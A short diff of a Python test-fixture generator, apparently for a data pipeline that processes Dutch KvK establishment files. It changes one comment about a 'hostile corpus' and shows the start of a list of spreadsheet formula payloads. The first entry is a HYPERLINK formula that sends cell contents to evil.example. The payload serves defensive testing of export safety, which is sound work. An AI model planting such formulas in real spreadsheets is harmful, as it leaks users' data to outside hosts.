@@ -374,7 +374,7 @@ def _xlsx_bomb(megabytes: int) -> bytes:
 # ----------------------------------------------------------------------------- hostile corpus
 # tests/bad_inputs/hostile/: a KvK establishments file built to attack the readers of the
 # exports and to test the privacy rules, run through the main job next to the sample's
-# waste and municipal files (tests/test_hostile_corpus.py measures what comes out).
+# waste and municipal files (tests/test_pipeline_e2e.py measures what comes out).
 HOSTILE = HERE / "hostile"
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
